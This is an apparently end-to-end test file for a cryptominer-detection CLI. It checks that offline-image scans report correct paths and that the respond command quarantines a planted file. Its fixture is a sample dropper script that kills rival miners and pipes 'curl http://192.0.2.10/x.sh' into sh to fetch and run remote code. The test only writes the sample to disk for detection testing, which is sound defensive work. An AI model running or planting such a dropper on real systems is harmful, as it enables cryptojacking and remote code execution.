// End-to-end: the content scan of an offline system (`--root`) names files as that system sees
// them (/tmp/.x/drop.sh, not <image>/tmp/.x/drop.sh), so `respond --root` quarantines the right
// file inside the image and nothing outside it.
import { execFile } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdir, readFile, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ensureBuilt, runCli, runCliJson, type ReportJson } from '../helpers/cli.js';
import { makeTempDir } from '../helpers/lookalike.js';

const execFileP = promisify(execFile);
const DROPPER =
  '#!/bin/sh\npkill -9 xmrig\npkill -9 kdevtmpfsi\nkillall -9 kinsing\ncurl -fsSL http://192.0.2.10/x.sh | sh\n';

let dir: string;
let image: string;
let report: ReportJson;
let code: number | null;

beforeAll(async () => {
  await ensureBuilt();
  dir = await makeTempDir('minehunter-content-root-');
  image = path.join(dir, 'image');
  await mkdir(path.join(image, 'tmp', '.x'), { recursive: true });
  await mkdir(path.join(image, 'etc'), { recursive: true });
  await writeFile(path.join(image, 'tmp', '.x', 'drop.sh'), DROPPER, { mode: 0o755 });
  await writeFile(path.join(image, 'tmp', 'notes.txt'), 'nothing to see here\n');
  const run = await runCliJson(['scan', '--root', image, '--format', 'json', '--no-cache']);
  report = run.json;
  code = run.code;
}, 120_000);

afterAll(async () => {
  if (dir) await rm(dir, { recursive: true, force: true });
});

describe('scan --root with content', () => {
  it('reports the dropper under the path the offline system knows', () => {
    expect(code).toBe(1);
    const paths = report.findings.flatMap((f) =>
      f.evidence.flatMap((e) => (e.type === 'file' ? [e.path] : [])),
    );
    expect(paths).toContain('/tmp/.x/drop.sh');
    expect(paths.filter((p) => p.startsWith(image))).toEqual([]);
    const dropper = report.findings.find((f) =>
      f.evidence.some((e) => e.type === 'file' && e.path === '/tmp/.x/drop.sh'),
    );
    expect(dropper?.remediate).toContainEqual({ type: 'quarantine-file', path: '/tmp/.x/drop.sh' });
  });

  it('lets respond --root quarantine that file inside the image', async () => {
    const reportFile = path.join(dir, 'report.json');
    await writeFile(reportFile, JSON.stringify(report));
    const out = path.join(dir, 'out');
    const run = await runCli([
      'respond',
      '--report',
      reportFile,
      '--root',
      image,
      '--apply',
      '--yes',
      '--out',
      out,
      '--lang',
      'en',
    ]);
    expect(run.stdout, `${run.stdout}\n${run.stderr}`).not.toContain('[FAILED]');
    expect(existsSync(path.join(image, 'tmp', '.x', 'drop.sh'))).toBe(false);
    expect(await readFile(path.join(image, 'tmp', 'notes.txt'), 'utf8')).toBe('nothing to see here\n');
    const { stdout: listing } = await execFileP('7z', ['l', '-pinfected', path.join(out, 'quarantine.zip')]);
    expect(listing).toContain('drop.sh');
  }, 120_000);
});
